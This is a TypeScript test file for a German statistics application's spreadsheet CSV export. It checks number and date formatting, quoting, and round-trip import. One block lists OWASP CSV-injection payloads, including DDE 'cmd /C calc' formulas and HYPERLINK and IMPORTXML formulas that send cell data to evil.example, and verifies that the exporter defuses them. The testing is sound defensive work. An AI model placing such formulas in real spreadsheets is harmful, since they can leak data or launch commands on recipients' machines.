import { describe, expect, it } from 'vitest';
import type { MeasurementValue } from '../measurement-value';
import { parseValueCell } from './cells';
import { decodeCsvBytes } from './decode';
import { formatDateCell, formatNumberCell, formatValueCell, toSpreadsheetCsv } from './export';
import { readCsv } from './import';
import { parseRows } from './parse';

describe('formatNumberCell', () => {
	it.each([
		[0, '0'],
		[-0, '0'],
		[12, '12'],
		[12.5, '12,5'],
		[-3.25, '-3,25'],
		[1234.5, '1234,5'],
		[1234567.891, '1234567,891'],
		[0.1 + 0.2, '0,3'],
		[1 / 3, '0,333333'],
		[2 / 3, '0,666667'],
		[0.0000004, '0'],
		[-0.0000004, '0'],
		[12.3456789, '12,345679'],
		[100, '100'],
		[Number.NaN, ''],
		[Number.POSITIVE_INFINITY, '']
	])('%d → %s', (value, text) => {
		expect(formatNumberCell(value)).toBe(text);
	});
});

describe('formatValueCell', () => {
	it.each<[MeasurementValue, string]>([
		[{ value: 12.5, symbol: null, flags: [] }, '12,5'],
		[{ value: 12.5, symbol: null, flags: ['uncertain'] }, '(12,5)'],
		[{ value: 12.5, symbol: null, flags: ['provisional'] }, '12,5 p'],
		[{ value: 12.5, symbol: null, flags: ['uncertain', 'revised'] }, '(12,5) r'],
		[{ value: -7, symbol: null, flags: ['provisional', 'estimated'] }, '-7 ps'],
		[{ value: null, symbol: '.', flags: [] }, '.'],
		[{ value: null, symbol: '...', flags: [] }, '...'],
		[{ value: null, symbol: '*', flags: [] }, '*'],
		[{ value: null, symbol: null, flags: [] }, '']
	])('%j → %s', (value, text) => {
		expect(formatValueCell(value)).toBe(text);
	});

	const values: MeasurementValue[] = [
		...[0, 1, -1, 12.5, -3.25, 1234.5, 1234567.123456, 0.000001, 99.9].flatMap((value) =>
			[[], ['uncertain'], ['provisional'], ['revised'], ['estimated'], ['uncertain', 'provisional', 'revised', 'estimated'], ['provisional', 'estimated']].map(
				(flags) => ({ value, symbol: null, flags }) as MeasurementValue
			)
		),
		...(['-', '.', '...', '/', 'x', '*'] as const).map((symbol) => ({ value: null, symbol, flags: [] }))
	];
	it.each(values)('round trip through parseValueCell: %j', (value) => {
		expect(parseValueCell(formatValueCell(value), ',')).toEqual({ ok: true, value });
	});
});

describe('formatDateCell', () => {
	it.each([
		['2024-12-31', '31.12.2024'],
		['2024-02-01', '01.02.2024'],
		['not a date', 'not a date']
	])('%s → %s', (iso, text) => {
		expect(formatDateCell(iso)).toBe(text);
	});
});

describe('toSpreadsheetCsv', () => {
	it('writes a BOM, semicolons, CRLF and decimal commas', () => {
		expect(
			toSpreadsheetCsv(
				['Datum', 'Wert', 'Fälle'],
				[
					['31.12.2024', 12.5, 1234],
					['31.12.2025', null, null]
				]
			)
		).toBe('\uFEFFDatum;Wert;Fälle\r\n31.12.2024;12,5;1234\r\n31.12.2025;;\r\n');
	});

	it.each([
		['plain', 'plain'],
		['', ''],
		['a;b', '"a;b"'],
		['say "hi"', '"say ""hi"""'],
		['two\nlines', '"two\nlines"'],
		['two\r\nlines', '"two\r\nlines"'],
		['12,5', '12,5'],
		['(12,5) r', '(12,5) r'],
		['-12,5', '-12,5'],
		// Formulas are defused …
		['=SUM(A1:A9)', "'=SUM(A1:A9)"],
		['+49 30 1234', "'+49 30 1234"],
		['@cmd', "'@cmd"],
		['-cmd', "'-cmd"],
		['- = nichts vorhanden', "'- = nichts vorhanden"],
		['\tTab', "'\tTab"],
		['\rx', '"\'\rx"'],
		['=A1;B1', '"\'=A1;B1"'],
		[' =1+1', "' =1+1"],
		['\n@x', '"\'\n@x"'],
		['-1', '-1'],
		['-1 Person', "'-1 Person"],
		// … the statistics symbols are not.
		['-', '-'],
		['.', '.'],
		['...', '...'],
		['/', '/'],
		['x', 'x'],
		['*', '*']
	])('text %j → %j', (text, cell) => {
		expect(toSpreadsheetCsv([], [[text]])).toBe(`\uFEFF\r\n${cell}\r\n`);
	});

	// The payloads of the OWASP CSV-injection page, with the spaces, tabs and line breaks that hide them.
	const OWASP = [
		"=cmd|' /C calc'!A0",
		"+cmd|' /C calc'!A0",
		"-cmd|' /C calc'!A0",
		"@SUM(1+9)*cmd|' /C calc'!A0",
		"-1+1+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!'E2'",
		'=HYPERLINK("http://evil.example/?leak="&A1;"Klick")',
		'=DDE("cmd";"/C calc";"!A0")A0',
		'=IMPORTXML(CONCAT("http://evil.example/?v=";A2);"//a")',
		'@SUM(1,2)',
		'   =1+1',
		'\t=1+1',
		'\r=1+1',
		'\n-1+1',
		'\t\t+1'
	];
	it.each(OWASP)('defuses %j: the cell read back starts with the quote', (payload) => {
		const csv = toSpreadsheetCsv([], [[payload, 12.5, -3]]);
		const row = parseRows(decodeCsvBytes(new TextEncoder().encode(csv)).text, ';').at(-1);
		// The reader turns a lone CR inside quotes into a line break; the cell is the same text.
		expect(row!.cells[0]).toBe(`'${payload}`.replace(/\r(?!\n)/g, '\n'));
		// Numbers beside it stay numbers.
		expect(row!.cells.slice(1)).toEqual(['12,5', '-3']);
	});

	it('reads back as it was written', () => {
		const rows = [
			['31.12.2024', 'Ausländer', '12,5 p', 'Hinweis; mit "Zitat"\nund Umbruch'],
			['31.12.2025', 'Deutsche', '.', '']
		];
		const csv = toSpreadsheetCsv(['Stichtag', 'Gruppe', 'Wert', 'Bemerkung'], rows);
		const { text } = decodeCsvBytes(new TextEncoder().encode(csv));
		expect(parseRows(text, ';').map((row) => row.cells)).toEqual([['Stichtag', 'Gruppe', 'Wert', 'Bemerkung'], ...rows]);
	});

	it('imports again what it exported, value and status in separate columns', () => {
		// The layout of the measurement download: the number stays a number, the status beside it.
		const header = ['Indikator', 'Einheit', 'Gruppe', 'Stichtag', 'Wert', 'Zeichen/Kennzeichen', 'Fallzahl', 'Bemerkung', 'Quelle', 'eingetragen von', 'eingetragen am'];
		const csv = toSpreadsheetCsv(header, [
			['Ausländeranteil', '%', 'Ausländer', formatDateCell('2023-12-31'), 16.4, 'p', 14210, 'Fortschreibung; vorläufig', 'GENESIS', 'Ada', '02.01.2024'],
			['Ausländeranteil', '%', 'Ausländer', formatDateCell('2022-12-31'), null, '.', null, '', 'GENESIS', 'Ada', '02.01.2024'],
			['Ausländeranteil', '%', 'Deutsche', formatDateCell('2022-12-31'), 1234.5, '()rs', null, '=Formel', 'Hand', 'Bea', '03.01.2024']
		]);
		const reading = readCsv(new TextEncoder().encode(csv), { groups: ['Deutsche', 'Ausländer'] });
		expect(reading.mapping).toEqual({ date: 3, value: 4, group: 2, status: 5, cases: 6, note: 7 });
		expect(reading.problems).toEqual([]);
		expect(reading.rows).toEqual([
			{ line: 2, group: 'Ausländer', date: '2023-12-31', value: { value: 16.4, symbol: null, flags: ['provisional'] }, cases: 14210, note: 'Fortschreibung; vorläufig' },
			{ line: 3, group: 'Ausländer', date: '2022-12-31', value: { value: null, symbol: '.', flags: [] }, cases: null, note: '' },
			// The defused formula comes back with its apostrophe: it is text now.
			{ line: 4, group: 'Deutsche', date: '2022-12-31', value: { value: 1234.5, symbol: null, flags: ['uncertain', 'revised', 'estimated'] }, cases: null, note: "'=Formel" }
		]);
	});
});
